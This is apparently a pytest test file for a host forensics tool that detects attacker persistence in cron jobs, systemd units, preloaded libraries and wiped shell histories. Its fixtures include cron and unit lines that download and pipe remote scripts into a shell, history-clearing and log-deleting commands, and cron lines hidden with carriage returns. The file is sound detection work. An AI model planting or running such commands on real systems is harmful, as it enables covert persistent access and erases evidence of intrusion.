"""What brings an intruder back."""

from __future__ import annotations

import pytest

from kubewitness.model.evidence import Place
from kubewitness.model.host import CronEntry, Host
from tests.detect.host.making import exec_line, file, found, host, process, rules


def test_cron_that_fetches_and_runs_is_cited_by_its_line() -> None:
    text = "# m h\nMAILTO=root\n*/10 * * * * root wget -q -O - http://203.0.113.35/u.sh | sh\n"
    (finding,) = found(Host("n", files=[file("/etc/cron.d/.sysstat", text)]), "cron_persistence")
    assert finding.severity == "high"
    place, line = finding.places[0]
    assert (place.line, place.offset, line) == (3, text.index("*/10"), text.splitlines()[2])
    assert finding.addresses == ("203.0.113.35",)
    assert any("begins with a dot" in reason.en for reason in finding.reasons)


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("/var/spool/cron/crontabs/root", "* * * * * wget -q -O - http://203.0.113.8/unk.sh | sh > /dev/null 2>&1"),
        ("/var/spool/cron/root", "@reboot /var/tmp/.system -B"),
        ("/etc/crontab", "*/5 * * * * root /dev/shm/.k/run"),
        ("/etc/cron.hourly/oanacroner", "curl -fsSL http://203.0.113.8/x | bash"),
        ("/var/spool/cron/root", "* * * * * /tmp/.a;\rno crontab for root"),
    ],
)
def test_forms_of_cron_that_bring_somebody_back(path: str, line: str) -> None:
    (finding,) = found(Host("n", files=[file(path, line + "\n")]), "cron_persistence")
    assert finding.severity == "high"


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("/etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly"),
        ("/etc/cron.d/clean", "0 3 * * * root find /tmp -mtime +10 -delete"),
        ("/etc/cron.d/site", "*/5 * * * * www-data wget -q -O /dev/null https://www.example.com/wp-cron.php"),
        ("/etc/cron.d/.placeholder", "# DO NOT EDIT OR REMOVE: curl http://203.0.113.8/x | sh"),
        ("/etc/cron.d/backup", "0 1 * * * root tar czf - /etc | base64 > /backup/etc.b64"),
        ("/etc/cron.d/log", "0 1 * * * root /usr/local/bin/report | tee /tmp/.report"),
        ("/home/a/notes", "* * * * * curl http://203.0.113.8/x | sh"),
        ("/var/spool/cron/root", "PATH=/tmp/.a:/usr/bin"),
    ],
)
def test_usual_cron_is_silent(path: str, line: str) -> None:
    assert not found(Host("n", files=[file(path, line + "\n")]), "cron_persistence")


def test_a_unit_that_runs_a_hidden_program() -> None:
    text = "[Service]\nExecStart=-/usr/local/.mysqld/../../../tmp/.x\nRestart=always\n"
    assert found(Host("n", files=[file("/etc/systemd/system/web.service", text)]), "unit_persistence")
    script = "[Service]\nExecStart=/bin/sh -c 'curl -s http://203.0.113.8/x | sh'\n"
    assert found(Host("n", files=[file("/etc/systemd/system/web.service", script)]), "unit_persistence")


def test_units_of_the_kubelet_are_silent() -> None:
    text = "[Service]\nExecStart=\nExecStart=/usr/bin/kubelet $KUBELET_CONFIG_ARGS\nExecStartPre=/bin/mkdir -p /tmp/x\n"
    assert not rules(Host("n", files=[file("/etc/systemd/system/kubelet.service", text)]))


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        ("/usr/local/lib/libprocesshider.so\n", "high"),
        ("/etc/rig.so", "high"),
        ("/tmp/.x.so", "high"),
        ("/usr/lib/libaudit_agent.so\n", "medium"),
        ("/usr/lib/arm-linux-gnueabihf/libarmmem-${PLATFORM}.so\n", "low"),
    ],
)
def test_preloaded_libraries_by_where_they_lie(text: str, severity: str) -> None:
    (finding,) = found(Host("n", files=[file("/etc/ld.so.preload", text)]), "ld_preload")
    assert finding.severity == severity


@pytest.mark.parametrize("text", ["", "\n\n", "# none\n"])
def test_an_empty_preload_file_is_nothing(text: str) -> None:
    assert not rules(Host("n", files=[file("/etc/ld.so.preload", text)]))


def test_authorised_keys_are_only_context() -> None:
    (finding,) = found(
        Host("n", files=[file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA ops\n")]), "authorized_keys"
    )
    assert (finding.severity, finding.kind) == ("informational", "context")
    assert "ops" in finding.reasons[0].en


def test_cleared_histories_are_low_wherever_they_show() -> None:
    machine = host("bash -c history -c", "sh -c export HISTFILE=/dev/null; ls")
    machine.logs.append(exec_line(1, ["history", "-c"]))
    machine.files.append(file("/root/.bash_history", "ls\nunset HISTFILE\nrm -f /var/log/wtmp\n"))
    (finding,) = found(machine, "history_wiped")
    assert (finding.severity, finding.count) == ("low", 5)


def test_talk_of_histories_is_silent() -> None:
    machine = host(
        "grep HISTFILE=/dev/null /etc/profile",
        "less /root/.bash_history",
        "git history -c",
        "rm -f /var/log/app/old.log",
    )
    machine.files.append(file("/root/.bash_history", "history\nhistory | grep x\nexport HISTSIZE=5000\n"))
    assert not found(machine, "history_wiped")


def test_schedules_that_were_read_are_judged_once_with_the_line_of_their_file() -> None:
    line = "*/10 * * * * root wget -q -O - http://203.0.113.35/u.sh | sh"
    table = file("/etc/cron.d/x", f"# m h\n{line}\n")
    place = Place(table.place.item, 2, 6, len(line))
    schedule = CronEntry("/etc/cron.d/x", "*/10 * * * *", line.partition("root ")[2], place, "root")
    (finding,) = found(Host("n", files=[table], schedules=[schedule]), "cron_persistence")
    assert finding.places == ((place, line),)


def test_what_crontab_printed_is_judged_without_a_table() -> None:
    schedule = CronEntry("", "@reboot", "/var/tmp/.system -B", Place("crontab_-l.txt", 1, 0), "eve")
    (finding,) = found(Host("n", schedules=[schedule]), "cron_persistence")
    assert finding.subject == "crontab_-l.txt: @reboot eve /var/tmp/.system -B"


@pytest.mark.parametrize(
    ("line", "speaks"),
    [
        ("* * * * * sh%curl -s http://203.0.113.8/x | sh", True),
        ("* * * * * /usr/bin/true\rno crontab for root", True),
        ("0 5 * * 1 tar -zcf /var/backups/home-$(date +\\%F).tgz /home/", False),
        ("0 5 * * 1 mail -s hello root%Good morning%/tmp is full", False),
        ("0 5 * * 1 /usr/bin/true\r", False),
    ],
)
def test_input_of_a_command_and_lines_that_hide(line: str, speaks: bool) -> None:
    machine = Host("n", files=[file("/var/spool/cron/root", line + "\n")])
    assert bool(found(machine, "cron_persistence")) is speaks


@pytest.mark.parametrize(
    ("variable", "container", "expected"),
    [
        ("LD_PRELOAD=/tmp/.x.so", "", ["medium"]),
        ("LD_PRELOAD=/dev/shm/a.so:/usr/lib/libjemalloc.so.2", "ab" * 32, ["medium"]),
        ("LD_PRELOAD=/usr/lib/libprocesshider.so", "", ["medium"]),
        ("LD_PRELOAD=/usr/lib/libown.so", "", ["low"]),
        ("LD_PRELOAD=/usr/lib/libown.so", "ab" * 32, ["informational"]),
        ("LD_PRELOAD", "", ["low"]),  # its value was left out
        ("LD_PRELOAD", "ab" * 32, ["informational"]),
        ("LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", "ab" * 32, []),
        ("LD_PRELOAD=/usr/lib/faketime/libfaketime.so.1", "", []),
        ("LD_PRELOAD=/usr/lib/libtcmalloc_minimal.so.4", "", []),
        ("MY_LD_PRELOAD=/tmp/.x.so", "", []),
        ("LD_LIBRARY_PATH=/tmp", "", []),
    ],
)
def test_a_library_preloaded_by_the_environment(variable: str, container: str, expected: list[str]) -> None:
    running = process("app", environment=("A=b", variable), container=container)
    findings = found(Host("n", processes=[running]), "ld_preload_environment")
    assert [finding.severity for finding in findings] == expected
